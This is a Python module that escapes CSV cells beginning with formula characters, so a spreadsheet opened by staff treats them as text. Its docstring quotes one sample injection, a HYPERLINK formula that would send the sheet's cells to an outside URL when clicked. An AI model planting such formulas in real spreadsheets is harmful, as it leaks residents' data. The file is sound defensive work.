"""CSV files that staff open in Excel or WPS: no cell can start a formula.

A cell beginning with = + - @ (or a tab or carriage return, or their full-width forms) is
read as a formula: `=HYPERLINK("http://…?x="&A1,"点我")` typed by a resident would send the
sheet's cells away on one click. As OWASP advises, such a cell gets a leading ' so that it
stays text. Numbers (int, float) are written as they are.
"""
from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def cell(value):
    """`value`, with a leading ' when it is text that a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


class Writer:
    """`csv.writer` whose every cell goes through `cell`."""

    def __init__(self, handle: IO[str], **options) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable) -> None:
        self._writer.writerow([cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        self._writer.writerows([cell(v) for v in row] for row in rows)
